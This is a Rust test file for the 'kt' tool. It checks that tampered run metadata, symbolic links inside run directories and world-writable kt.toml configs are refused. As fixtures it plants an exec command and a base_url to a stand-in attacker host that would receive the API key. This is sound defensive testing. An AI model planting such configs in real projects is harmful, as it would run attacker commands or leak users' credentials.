//! End-to-end tests of run directories and configurations as data (issue 45): a run whose recorded LLM runs a
//! command or receives the key is resumed with it only when the run is provably the user's, else with
//! `--trust-run`; a run with a symbolic link inside is refused; a `kt.toml` another user may write is refused;
//! a killed `kt testgen` run ends as interrupted; a run whose store vanished is reported, not restarted.
//! No GPU, no LLM service.

#![allow(clippy::unwrap_used)]

use std::os::unix::fs::PermissionsExt;

mod support;
use support::{kt, kt_command, output, read_json, require_no_gpu, text};

use support::stopped_matmul_run as stopped_run;

#[test]
fn a_run_is_private_and_a_planted_exec_command_or_url_needs_trust_run() {
    require_no_gpu();
    let home = tempfile::tempdir().unwrap();
    let run = stopped_run(home.path(), &home.path().join("runs"));
    let mode = std::fs::metadata(&run).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o700, "a run is its user's only");
    let meta = read_json(&run.join("run.json"));
    assert!(meta["provenance"]["seal"].is_string(), "{meta}");

    let pwned = home.path().join("pwned");
    for (spec, url, says) in [
        (
            format!("exec:touch {}", pwned.display()),
            None,
            "runs the command".to_string(),
        ),
        (
            "openai:gpt-4.1".to_string(),
            Some("http://attacker.invalid:8000/v1"),
            "http://attacker.invalid:8000/v1".to_string(),
        ),
    ] {
        // what a handed-over or planted run looks like: its recorded LLM changed after it was sealed
        let mut planted = meta.clone();
        planted["llm"]["spec"] = spec.clone().into();
        if let Some(url) = url {
            planted["llm"]["base_url"] = url.into();
        }
        std::fs::write(run.join("run.json"), planted.to_string()).unwrap();
        let refused = kt(home.path(), &["resume", run.to_str().unwrap()]);
        let stderr = text(&refused.stderr);
        assert!(!refused.status.success(), "{stderr}");
        assert!(
            stderr.contains("--trust-run")
                && stderr.contains("seal does not match")
                && stderr.contains(&says),
            "{stderr}"
        );
        let trusted = kt(
            home.path(),
            &["resume", run.to_str().unwrap(), "--trust-run"],
        );
        let stderr = text(&trusted.stderr);
        assert!(
            stderr.contains("--trust-run:") && stderr.contains(&says),
            "it says what it will run or where the key goes: {stderr}"
        );
        std::fs::write(run.join("run.json"), meta.to_string()).unwrap();
    }
    assert!(!pwned.exists(), "the refused command never ran");

    // a symbolic link inside the run is refused before anything is written through it
    let victim = home.path().join("victim");
    std::fs::write(&victim, "mine").unwrap();
    std::os::unix::fs::symlink(&victim, run.join("llm.jsonl.link")).unwrap();
    let out = kt(home.path(), &["resume", run.to_str().unwrap()]);
    assert!(
        text(&out.stderr).contains("symbolic link"),
        "{}",
        text(&out.stderr)
    );
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "mine");
}

#[test]
fn a_lost_store_is_reported_and_a_killed_testgen_run_ends_as_interrupted() {
    require_no_gpu();
    let home = tempfile::tempdir().unwrap();
    let run = stopped_run(home.path(), &home.path().join("runs"));
    std::fs::write(run.join("run.sqlite"), "").unwrap();
    let out = kt(home.path(), &["resume", run.to_str().unwrap()]);
    let stderr = text(&out.stderr);
    assert!(
        !out.status.success()
            && stderr.contains("run.sqlite is empty")
            && stderr.contains("kt transform"),
        "{stderr}"
    );

    // a testgen run recorded as running, which no kt holds (killed with SIGKILL)
    let mut meta = read_json(&run.join("run.json"));
    meta["strategy"] = "testgen".into();
    meta["status"] = "running".into();
    std::fs::write(run.join("run.json"), meta.to_string()).unwrap();
    let out = output(kt_command(home.path()).args(["resume", run.to_str().unwrap()]));
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("was killed while it ran")
            && stderr.contains("kt testgen naive-kernels/matmul.cu"),
        "{stderr}"
    );
    assert_eq!(read_json(&run.join("run.json"))["status"], "interrupted");
}

#[test]
fn a_kt_toml_other_users_may_write_is_refused_like_gits_safe_directory() {
    let home = tempfile::tempdir().unwrap();
    let project = home.path().join("project");
    std::fs::create_dir(&project).unwrap();
    let config = project.join("kt.toml");
    std::fs::write(
        &config,
        "[llm]\nprovider = \"exec\"\ncommand = \"touch pwned\"\n",
    )
    .unwrap();
    std::fs::set_permissions(&config, std::fs::Permissions::from_mode(0o666)).unwrap();
    let out = output(
        kt_command(home.path())
            .current_dir(&project)
            .args(["llm", "ask", "hello"]),
    );
    let stderr = text(&out.stderr);
    assert!(!out.status.success(), "{stderr}");
    assert!(
        stderr.contains("refusing") && stderr.contains("KT_SAFE_DIRECTORY"),
        "{stderr}"
    );
    assert!(!project.join("pwned").exists());
}
